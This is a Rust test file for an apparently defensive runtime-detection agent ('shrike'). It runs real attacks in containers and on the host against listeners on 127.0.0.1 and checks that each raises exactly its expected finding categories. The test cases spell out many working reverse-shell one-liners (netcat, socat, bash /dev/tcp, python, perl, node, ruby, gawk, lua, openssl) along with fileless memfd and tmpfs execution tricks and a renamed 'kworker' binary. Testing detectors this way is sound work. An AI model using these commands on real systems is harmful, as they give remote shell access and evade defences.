//! Privileged: real attacks with real tools in real CRI pods (and on the host) against listeners
//! on 127.0.0.1, with `shrike run` watching. Each attack must raise exactly its categories and
//! nothing else; benign look-alikes must raise nothing. Every finding produced here is also
//! checked against the official SCC v2 `Finding` model.

use shrike_tests::{agent, common, containerd, scc_model};
use std::{
    collections::{BTreeMap, BTreeSet},
    path::Path,
    process::{Command, Stdio},
    time::{Duration, Instant},
};

use agent::{belongs_to_runner, listen, start_agent};
use common::privileged;
use containerd::{Containerd, PodSpec};
use serde_json::Value;

const NETCAT: &str = "Execution: Netcat Remote Code Execution In Container";
const SOCAT: &str = "Execution: Socat Reverse Shell Detected";
const RCE: &str = "Execution: Possible Remote Command Execution Detected";
const REVERSE_SHELL: &str = "Reverse Shell";
const COMPILER: &str = "Defense Evasion: Launch Code Compiler Tool In Container";
const FILELESS_MEMFD: &str = "Execution: Fileless Execution in /memfd:";
const FILELESS_SHM: &str = "Privilege Escalation: Fileless Execution in /dev/shm";
const PYTHON: &str = "Execution: Malicious Python executed";

use shrike_tests::shrike;

/// A `shrike record` we started; killed (by its pid) if the test fails before it is stopped.
struct Recorder(Option<std::process::Child>);

impl Recorder {
    /// Stop it with SIGINT, as a user would, and return its output.
    fn stop(mut self) -> std::process::Output {
        let child = self.0.take().unwrap();
        // SAFETY: signalling the recorder we started, by its pid.
        unsafe { libc::kill(child.id() as i32, libc::SIGINT) };
        child.wait_with_output().unwrap()
    }
}

impl Drop for Recorder {
    fn drop(&mut self) {
        if let Some(mut child) = self.0.take() {
            let _ = child.kill();
            let _ = child.wait();
        }
    }
}

fn start_recorder(dir: &Path, socket: &Path, out: &Path) -> Recorder {
    let config = dir.join("recorder.toml");
    std::fs::write(&config, format!("[container]\nruntime_endpoint = \"{}\"\n[metrics]\nlisten = \"\"\n", socket.display())).unwrap();
    Recorder(Some(common::spawn_ready(Command::new(shrike()).args(["record", "--config"]).arg(&config).arg("--output").arg(out).stdout(Stdio::null())).child))
}

/// Categories `shrike replay` finds in a recording.
pub fn replay_categories(file: &Path) -> BTreeSet<String> {
    let out = Command::new(shrike()).arg("replay").arg(file).output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap()["finding"]["category"].as_str().unwrap().to_string())
        .collect()
}

fn categories(findings: &[&Value]) -> BTreeSet<String> {
    findings.iter().map(|f| f["finding"]["category"].as_str().unwrap().to_string()).collect()
}

fn set(items: &[&str]) -> BTreeSet<String> {
    items.iter().map(|s| s.to_string()).collect()
}

/// Attacks run inside pods: (pod name, command template with {P} for the port, listener
/// commands, expected categories).
fn container_cases() -> Vec<(&'static str, String, &'static str, BTreeSet<String>)> {
    let rs = |tool: &str| set(&[tool, REVERSE_SHELL, RCE]);
    vec![
        ("nc-e", "nc.traditional -e /bin/sh 127.0.0.1 {P}".into(), "id; exit\n", rs(NETCAT)),
        ("nc-nve", "nc.traditional -nve/bin/sh 127.0.0.1 {P}".into(), "id; exit\n", rs(NETCAT)),
        ("nc-renamed", "cp /usr/bin/nc.traditional /tmp/kworker && /tmp/kworker -e /bin/sh 127.0.0.1 {P}".into(), "id; exit\n", rs(NETCAT)),
        ("ncat-sh-exec", "ncat --sh-exec /bin/sh 127.0.0.1 {P}".into(), "id; exit\n", rs(NETCAT)),
        ("busybox-nc", "busybox nc 127.0.0.1 {P} -e /bin/sh".into(), "id; exit\n", rs(NETCAT)),
        (
            "mkfifo-nc",
            "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc.openbsd 127.0.0.1 {P} > /tmp/f".into(),
            "id; exit\n",
            rs(NETCAT),
        ),
        ("socat-exec", "socat TCP:127.0.0.1:{P} EXEC:/bin/sh".into(), "id; exit\n", rs(SOCAT)),
        ("socat-pty", "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:127.0.0.1:{P}".into(), "id; exit\n", rs(SOCAT)),
        ("bash-dev-tcp", "bash -c 'exec bash -i >& /dev/tcp/127.0.0.1/{P} 0>&1'".into(), "id; exit\n", set(&[REVERSE_SHELL, RCE])),
        (
            "python-pty",
            "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"127.0.0.1\",{P}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'".into(),
            "id; exit\n",
            // The one-liner is also malicious Python code, judged as such.
            set(&[REVERSE_SHELL, RCE, PYTHON]),
        ),
        (
            "perl-socket",
            "perl -e 'use Socket;$i=\"127.0.0.1\";$p={P};socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};'".into(),
            "id; exit\n",
            set(&[REVERSE_SHELL, RCE]),
        ),
        // Shells fed through a relay: a network client that is not netcat wired to a shell by
        // pipes or a FIFO, and an interpreter or shell that runs commands for a connection it
        // holds itself (popen loop, child process piped to the socket), or relays a pty.
        (
            "socat-fifo",
            "rm -f /tmp/f; mkfifo /tmp/f; /bin/sh -i < /tmp/f 2>&1 | socat - TCP:127.0.0.1:{P} > /tmp/f".into(),
            "id; exit\n",
            set(&[SOCAT, RCE]),
        ),
        (
            "curl-telnet",
            "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | curl -sN telnet://127.0.0.1:{P} > /tmp/f".into(),
            "id; exit\n",
            set(&[RCE]),
        ),
        ("dev-tcp-relay", "bash -c 'exec 3<>/dev/tcp/127.0.0.1/{P}; cat <&3 | sh 2>&1 | cat >&3'".into(), "id; exit\n", set(&[RCE])),
        (
            "node-spawn",
            "node -e 'const s=require(\"net\").connect({P},\"127.0.0.1\",()=>{const sh=require(\"child_process\").spawn(\"/bin/sh\",[]);s.pipe(sh.stdin);sh.stdout.pipe(s);sh.stderr.pipe(s);sh.on(\"exit\",()=>s.end())})'".into(),
            "id; exit\n",
            set(&[RCE]),
        ),
        (
            "perl-popen",
            "perl -e 'use IO::Socket::INET; my $s = IO::Socket::INET->new(\"127.0.0.1:{P}\") or die; while (my $l = <$s>) { print $s `$l`; }'".into(),
            "id; exit\n",
            set(&[RCE]),
        ),
        // perl `system` in a read loop, its output sent back through the socket it made its
        // stdout and stderr.
        (
            "perl-system",
            "perl -e 'use IO::Socket::INET; my $s = IO::Socket::INET->new(\"127.0.0.1:{P}\") or die; open(STDOUT, \">&\", $s); open(STDERR, \">&\", $s); $| = 1; while (my $l = <$s>) { system($l); }'".into(),
            "id; exit\n",
            set(&[RCE]),
        ),
        (
            "openssl-fifo",
            "rm -f /tmp/f; mkfifo /tmp/f; /bin/sh -i < /tmp/f 2>&1 | openssl s_client -quiet -connect 127.0.0.1:{P} > /tmp/f 2>/dev/null".into(),
            "id; exit\n",
            set(&[RCE]),
        ),
        ("script-pty", "bash -c 'exec 3<>/dev/tcp/127.0.0.1/{P}; script -qc /bin/sh /dev/null <&3 >&3 2>&3'".into(), "id; exit\n", set(&[RCE])),
        (
            "ruby-popen",
            "ruby -rsocket -e 's=TCPSocket.new(\"127.0.0.1\",{P}); while l=s.gets; IO.popen(l,\"r\"){|io| s.print io.read}; end'".into(),
            "id; exit\n",
            set(&[RCE]),
        ),
        (
            "gawk-coprocess",
            "gawk 'BEGIN { s = \"/inet/tcp/0/127.0.0.1/{P}\"; while ((s |& getline c) > 0) { while ((c |& getline l) > 0) print l |& s; close(c) } }'".into(),
            "id; exit\n",
            set(&[RCE]),
        ),
        (
            "lua-popen",
            "lua5.4 -e 'local t=require(\"socket\").tcp(); t:connect(\"127.0.0.1\",{P}); while true do local r=t:receive(); if not r then break end; local f=io.popen(r,\"r\"); t:send(f:read(\"*a\")); f:close() end'".into(),
            "id; exit\n",
            set(&[RCE]),
        ),
        (
            "telnet-fifo",
            "rm -f /tmp/f; mkfifo /tmp/f; telnet 127.0.0.1 {P} 0< /tmp/f | /bin/sh > /tmp/f 2>&1".into(),
            "id; exit\n",
            set(&[RCE]),
        ),
        // The Tcl interpreter itself has the socket on its stdio: a reverse shell, as the
        // python pty one-liner is.
        (
            "expect-pty",
            "bash -c 'exec 3<>/dev/tcp/127.0.0.1/{P}; expect -c \"spawn /bin/sh; interact\" <&3 >&3 2>&3'".into(),
            "id; exit\n",
            set(&[REVERSE_SHELL, RCE]),
        ),
        ("gcc", "printf 'int main(void){return 0;}' > /tmp/t.c && gcc /tmp/t.c -o /tmp/t && /tmp/t".into(), "", set(&[COMPILER])),
        // A program copied into a memfd and executed from it (memfd_create is syscall 319 on
        // x86_64), and one copied to a memory-backed volume and run there.
        (
            "memfd-exec",
            "perl -e 'my $n = \"kworker\"; my $fd = syscall(319, $n, 0); die \"memfd_create\" if $fd < 0; open(my $m, \">&=\", $fd) or die; \
             open(my $i, \"<\", \"/usr/bin/id\") or die; binmode $i; binmode $m; local $/; my $b = <$i>; print {$m} $b; close $i; \
             $m->flush; exec {\"/proc/self/fd/$fd\"} \"kworker\" or die \"exec: $!\"' | grep -q uid=".into(),
            "",
            set(&[FILELESS_MEMFD]),
        ),
        ("deleted-exec", "cp /usr/bin/id /tmp/kid && exec 3</tmp/kid && rm /tmp/kid && /proc/self/fd/3 | grep -q uid=".into(), "", set(&[FILELESS_MEMFD])),
        ("tmpfs-exec", "cp /usr/bin/id /scratch/kworker && /scratch/kworker | grep -q uid=".into(), "", set(&[FILELESS_SHM])),
        // Benign look-alikes.
        ("dropped-on-disk", "cp /usr/bin/id /tmp/kid && /tmp/kid && echo data > /scratch/note && cat /scratch/note".into(), "", set(&[])),
        ("nc-z", "nc -z 127.0.0.1 {P}; true".into(), "", set(&[])),
        ("nc-host-e", "nc -w 1 host-e 8080; nc -w 1 app-engine 8080; nc -v -w 1 server-c 443; true".into(), "", set(&[])),
        ("socat-forward", "timeout 1 socat TCP-LISTEN:0,reuseaddr,fork TCP:127.0.0.1:{P}; true".into(), "", set(&[])),
        ("shell-pipes", "echo hello | cat | sh -c 'read x; echo $x' | wc -c; ls / | grep usr".into(), "", set(&[])),
        // Bytes from the network piped into an interpreter that runs its own inline program
        // (data, not code), and a shell that waits for a port and then runs commands that are
        // not wired to that connection.
        (
            "curl-pipe-data",
            "curl -s http://127.0.0.1:{P}/ | python3 -c 'import sys; print(len(sys.stdin.read()))'; true".into(),
            "",
            set(&[]),
        ),
        ("wait-for-port", "bash -c 'until echo > /dev/tcp/127.0.0.1/{P}; do sleep 1; done; ls / > /dev/null; id'".into(), "", set(&[])),
        // An echo service (the listener gets its line back) and an HTTP-style download through
        // /dev/tcp: bytes over a socket, nothing run from them.
        ("nc-e-cat", "nc.traditional -e /bin/cat 127.0.0.1 {P}".into(), "uid=echoed\n", set(&[])),
        ("dev-tcp-cat", "bash -c 'cat < /dev/tcp/127.0.0.1/{P} > /tmp/reply'; true".into(), "", set(&[])),
        ("socat-exec-cat", "socat TCP:127.0.0.1:{P} EXEC:cat".into(), "uid=echoed\n", set(&[])),
        // Interpreters that run a command through popen or a coprocess, with no connection; a
        // telnet client fed by a program that is not a shell.
        ("ruby-popen-local", "ruby -e 'puts IO.popen(\"id\").read.size'".into(), "", set(&[])),
        ("gawk-coprocess-local", "gawk 'BEGIN { c = \"id\"; while ((c |& getline l) > 0) n++; close(c); print n }'".into(), "", set(&[])),
        ("telnet-data", "printf 'GET / HTTP/1.0\\r\\n\\r\\n' | timeout 3 telnet 127.0.0.1 {P} > /tmp/reply 2>&1; true".into(), "", set(&[])),
    ]
}

/// A TLS listener on 127.0.0.1 (`openssl s_server`, with a throwaway key made in `dir`) that
/// sends `commands` once a client is connected and returns what the client sent back.
fn tls_listen(commands: &'static str, dir: &Path) -> agent::Listener {
    let (key, cert) = (dir.join("tls.key"), dir.join("tls.crt"));
    if !cert.exists() {
        let made = Command::new("openssl")
            .args(["req", "-x509", "-newkey", "rsa:2048", "-nodes", "-subj", "/CN=127.0.0.1", "-days", "1", "-keyout"])
            .arg(&key)
            .arg("-out")
            .arg(&cert)
            .output()
            .expect("run openssl req");
        assert!(made.status.success(), "openssl req: {}", String::from_utf8_lossy(&made.stderr));
    }
    let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    let mut server = Command::new("timeout")
        .args(["12", "openssl", "s_server", "-quiet", "-naccept", "1", "-accept"])
        .arg(format!("127.0.0.1:{port}"))
        .arg("-cert")
        .arg(&cert)
        .arg("-key")
        .arg(&key)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("run openssl s_server");
    // Ready once it accepts connections (a probe connection would be its one accept: wait on
    // the port being bound instead).
    let deadline = Instant::now() + Duration::from_secs(5);
    while std::net::TcpListener::bind(("127.0.0.1", port)).is_ok() && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(50));
    }
    let mut stdin = server.stdin.take().unwrap();
    let thread = std::thread::spawn(move || {
        use std::io::Write;
        // s_server reads its stdin only once a client is there; give the client time to connect.
        std::thread::sleep(Duration::from_secs(2));
        let _ = stdin.write_all(commands.as_bytes());
        let _ = stdin.flush();
        std::thread::sleep(Duration::from_secs(3));
        drop(stdin);
        let out = server.wait_with_output().map(|o| o.stdout).unwrap_or_default();
        String::from_utf8_lossy(&out).into_owned()
    });
    agent::Listener { port, thread }
}

/// Host attacks: (name, command, listener commands, expected with host scope).
fn host_cases() -> Vec<(&'static str, String, &'static str, BTreeSet<String>)> {
    vec![
        ("host-bash", "bash -c 'exec bash -i >& /dev/tcp/127.0.0.1/{P} 0>&1'".into(), "id; exit\n", set(&[REVERSE_SHELL, RCE])),
        (
            "host-python",
            "/usr/bin/python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"127.0.0.1\",{P}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'".into(),
            "id; exit\n",
            set(&[REVERSE_SHELL, RCE]),
        ),
        ("host-socat", "socat TCP:127.0.0.1:{P} EXEC:/bin/sh".into(), "id; exit\n", set(&[SOCAT, REVERSE_SHELL, RCE])),
        ("host-nc", "nc.traditional -e /bin/sh 127.0.0.1 {P}".into(), "id; exit\n", set(&[REVERSE_SHELL, RCE])),
        ("host-gcc", "printf 'int main(void){return 0;}' > {DIR}/t.c && gcc {DIR}/t.c -o {DIR}/t".into(), "", set(&[])),
    ]
}

/// Run the host attacks, each from its own `sh -c` runner; returns runner pid → expected.
fn run_host_attacks(dir: &Path) -> Vec<(&'static str, u32, BTreeSet<String>)> {
    host_cases()
        .into_iter()
        .map(|(name, cmd, commands, expected)| (name, agent::run_attack(name, &cmd.replace("{DIR}", &dir.display().to_string()), commands), expected))
        .collect()
}

#[tokio::test(flavor = "current_thread")]
async fn real_attacks_raise_exactly_their_categories() {
    if !privileged("real_attacks_raise_exactly_their_categories") {
        return;
    }
    let ctrd = Containerd::start();
    let dir = ctrd.dir.join("attacks");
    std::fs::create_dir_all(&dir).unwrap();

    // Container attacks and look-alikes, plus host attacks with the default (container) scope.
    let agent = start_agent(&dir, "default", &ctrd.socket, false);
    let recording = dir.join("recording.jsonl");
    let recorder = start_recorder(&dir, &ctrd.socket, &recording);
    let mut pods = Vec::new();
    let mut expected: BTreeMap<String, BTreeSet<String>> = BTreeMap::new();
    // A memory-backed volume, as kubelet makes an `emptyDir` with `medium: Memory`: a tmpfs on
    // the node bind-mounted into the pod at /scratch. (CRI mounts /dev/shm noexec.)
    let scratch = dir.join("scratch");
    std::fs::create_dir_all(&scratch).unwrap();
    let mounted = Command::new("mount").args(["-t", "tmpfs", "-o", "size=16m", "tmpfs"]).arg(&scratch).status().unwrap();
    assert!(mounted.success(), "mounting a tmpfs for the pods' memory volume");
    for (name, cmd, commands, want) in container_cases() {
        let l = if name.starts_with("openssl") { tls_listen(commands, &dir) } else { listen(commands) };
        let cmd = cmd.replace("{P}", &l.port.to_string());
        let mut spec = PodSpec::new(name, &["/bin/sh", "-c", &cmd]);
        spec.extra_mounts.push((scratch.clone(), "/scratch".into(), false));
        let pod = ctrd.run_pod(&spec).await;
        let got = l.thread.join().unwrap();
        if !commands.is_empty() {
            assert!(got.contains("uid="), "{name}: the attack did not really work; listener got {got:?}");
        }
        expected.insert(pod.spec.name.clone(), want);
        pods.push(pod);
    }
    let host_default = run_host_attacks(&dir);
    // The metrics endpoint serves parseable text and its counters moved with what happened.
    let status = |r: String| r.lines().next().unwrap_or_default().split(' ').nth(1).unwrap_or_default().to_string();
    assert_eq!(status(agent::http_get(&agent.metrics, "/readyz")), "200", "ready after events");
    assert_eq!(status(agent::http_get(&agent.metrics, "/healthz")), "200");
    let value = agent::metric;
    let deadline = Instant::now() + Duration::from_secs(10);
    let mut text = String::new();
    while Instant::now() < deadline {
        text = agent::http_get(&agent.metrics, "/metrics");
        if value(&text, "shrike_findings_total{category=\"Reverse Shell\"}") >= 1.0 {
            break;
        }
        std::thread::sleep(Duration::from_millis(200));
    }
    for line in text.lines().skip_while(|l| !l.is_empty()).skip(1).filter(|l| !l.starts_with('#') && !l.is_empty()) {
        let v = line.rsplit(' ').next().unwrap();
        assert!(v.parse::<f64>().is_ok(), "metric line {line:?}");
    }
    assert!(value(&text, "shrike_events_total{kind=\"exec\"}") > 10.0, "{text}");
    assert!(value(&text, "shrike_findings_total{category=\"Reverse Shell\"}") >= 1.0, "{text}");
    assert!(value(&text, "shrike_enrichment_lookups_total") >= 1.0, "{text}");
    assert!(value(&text, "shrike_process_table_size") > 10.0, "{text}");
    let (findings, log) = agent.stop();
    let out = recorder.stop();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));

    let mut by_pod: BTreeMap<String, Vec<&Value>> = BTreeMap::new();
    for f in &findings {
        scc_model::assert_valid_finding(f);
        let pod = f["finding"]["sourceProperties"]["Pod_Name"].as_str().unwrap_or("<host>").to_string();
        by_pod.entry(pod).or_default().push(f);
    }
    let mut failures = Vec::new();
    for (pod, want) in &expected {
        let got = categories(by_pod.get(pod).map(Vec::as_slice).unwrap_or(&[]));
        if &got != want {
            failures.push(format!("{pod}: expected {want:?}, got {got:?}"));
        }
        // Each category at most once per incident: one finding per category per pod here.
        let n = by_pod.get(pod).map(Vec::len).unwrap_or(0);
        if n != got.len() {
            failures.push(format!("{pod}: {n} findings for {} categories", got.len()));
        }
    }
    for (name, runner, _) in &host_default {
        let got: Vec<&Value> = findings.iter().filter(|f| belongs_to_runner(f, *runner)).collect();
        if !got.is_empty() {
            failures.push(format!("{name}: host attack raised {:?} with the default container scope", categories(&got)));
        }
    }
    assert!(by_pod.get("<host>").is_none_or(|v| v.is_empty()), "no host findings by default: {:?}", by_pod.get("<host>"));
    assert!(failures.is_empty(), "{}\n\nlog:\n{log}", failures.join("\n"));

    // The recording, cut per pod, replays to the same categories (the record/replay seam), and
    // becomes the fixtures of the pure replay test when SHRIKE_WRITE_FIXTURES=1.
    let text = std::fs::read_to_string(&recording).unwrap();
    let lines: Vec<Value> = text.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    let fixtures = Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/attacks");
    let write = std::env::var("SHRIKE_WRITE_FIXTURES").is_ok_and(|v| v == "1");
    let mut replay_failures = Vec::new();
    for (pod, want) in &expected {
        let cgroups: BTreeSet<u64> = lines
            .iter()
            .filter(|l| l["type"] == "container_info" && l["container"]["pod_name"].as_str() == Some(pod.as_str()))
            .filter_map(|l| l["cgroup_id"].as_u64())
            .collect();
        let cut: Vec<String> = text
            .lines()
            .zip(&lines)
            .filter(|(_, v)| v["type"] == "clock" || v["cgroup_id"].as_u64().is_some_and(|c| cgroups.contains(&c)))
            .map(|(l, _)| l.to_string())
            .collect();
        let file = dir.join(format!("{pod}.jsonl"));
        std::fs::write(&file, cut.join("\n") + "\n").unwrap();
        let got = replay_categories(&file);
        // A renamed netcat is known by its contents, which a replay cannot read.
        let want: BTreeSet<String> =
            if pod == "nc-renamed" { want.iter().filter(|c| *c != NETCAT).cloned().collect() } else { want.clone() };
        if got != want {
            replay_failures.push(format!("{pod}: replay gave {got:?}, live {want:?}"));
        }
        if write {
            std::fs::create_dir_all(&fixtures).unwrap();
            std::fs::copy(&file, fixtures.join(format!("{pod}.jsonl"))).unwrap();
            std::fs::write(fixtures.join(format!("{pod}.expected")), want.iter().cloned().collect::<Vec<_>>().join("\n") + "\n").unwrap();
        }
    }
    assert!(replay_failures.is_empty(), "{}", replay_failures.join("\n"));

    // Evidence in the findings, field by field, for a few.
    let rs = by_pod["nc-e"].iter().find(|f| f["finding"]["category"] == REVERSE_SHELL).unwrap();
    let sp = &rs["finding"]["sourceProperties"];
    assert_eq!(sp["Reverse_Shell_Stdin_Redirection_Dst_Ip"], "127.0.0.1");
    assert_eq!(rs["finding"]["severity"], "CRITICAL");
    assert_eq!(rs["finding"]["indicator"]["ipAddresses"][0], "127.0.0.1");
    assert_eq!(rs["finding"]["kubernetes"]["pods"][0]["name"], "nc-e");
    assert_eq!(rs["finding"]["kubernetes"]["nodes"][0]["name"], "test-node");
    assert_eq!(rs["finding"]["resourceName"], "//container.googleapis.com/projects/p1/locations/europe-west1/clusters/c1");
    let nc = by_pod["nc-renamed"].iter().find(|f| f["finding"]["category"] == NETCAT).unwrap();
    assert_eq!(nc["finding"]["processes"][0]["binary"]["path"], "/tmp/kworker", "the renamed copy is named as it ran");
    assert_eq!(nc["finding"]["severity"], "LOW");
    let rce = by_pod["bash-dev-tcp"].iter().find(|f| f["finding"]["category"] == RCE).unwrap();
    let commands = rce["finding"]["sourceProperties"]["Commands"].as_array().unwrap();
    assert!(commands.iter().any(|c| c.as_str().is_some_and(|c| c == "id")), "the commands run are listed: {commands:?}");
    // Relayed shells: the connection's addresses, and the commands run through the relay.
    for pod in ["curl-telnet", "socat-fifo", "dev-tcp-relay", "node-spawn", "perl-popen", "ruby-popen", "gawk-coprocess", "lua-popen", "telnet-fifo"] {
        let rce = by_pod[pod].iter().find(|f| f["finding"]["category"] == RCE).unwrap();
        assert_eq!(rce["finding"]["connections"][0]["destinationIp"], "127.0.0.1", "{pod}: {rce}");
        assert!(rce["finding"]["sourceProperties"]["Network_Relay_Pid"].as_u64().is_some(), "{pod}: {rce}");
        let commands = rce["finding"]["sourceProperties"]["Commands"].as_array().unwrap();
        assert!(commands.iter().any(|c| c.as_str().is_some_and(|c| c == "id" || c.starts_with("sh -c id"))), "{pod}: the commands run are listed: {commands:?}");
        let loops = commands.iter().filter(|c| c.as_str().is_some_and(|c| c.ends_with("through pipes"))).count();
        assert!(loops <= 1, "{pod}: a relay loop is listed once: {commands:?}");
    }
    let gcc = &by_pod["gcc"][0];
    assert_eq!(gcc["finding"]["mitreAttack"]["primaryTactic"], "DEFENSE_EVASION");
    assert!(gcc["finding"]["processes"][0]["binary"]["sha256"].as_str().is_some_and(|s| s.len() == 64));

    // Host scope on: the host attacks are caught, gcc on the host still is not.
    let agent = start_agent(&dir, "host", &ctrd.socket, true);
    let host = run_host_attacks(&dir);
    let (findings, log) = agent.stop();
    let mut failures = Vec::new();
    for f in &findings {
        scc_model::assert_valid_finding(f);
    }
    for (name, runner, want) in &host {
        let got: Vec<&Value> = findings.iter().filter(|f| belongs_to_runner(f, *runner)).collect();
        let cats = categories(&got);
        if &cats != want {
            failures.push(format!("{name}: expected {want:?}, got {cats:?}"));
        }
        if got.len() != cats.len() {
            let brief: Vec<String> = got
                .iter()
                .map(|f| format!("{} {}", f["finding"]["category"], f["finding"]["sourceProperties"]["Summary"]))
                .collect();
            failures.push(format!("{name}: {} findings for {} categories: {brief:#?}", got.len(), cats.len()));
        }
        for f in &got {
            assert_eq!(f["resource"]["type"], "google.container.Cluster");
            assert!(f["finding"]["sourceProperties"].get("Pod_Name").is_none());
        }
    }
    assert!(failures.is_empty(), "{}\n\nlog:\n{log}", failures.join("\n"));

    for pod in &pods {
        ctrd.remove_pod(pod).await;
    }
    ctrd.stop();
}
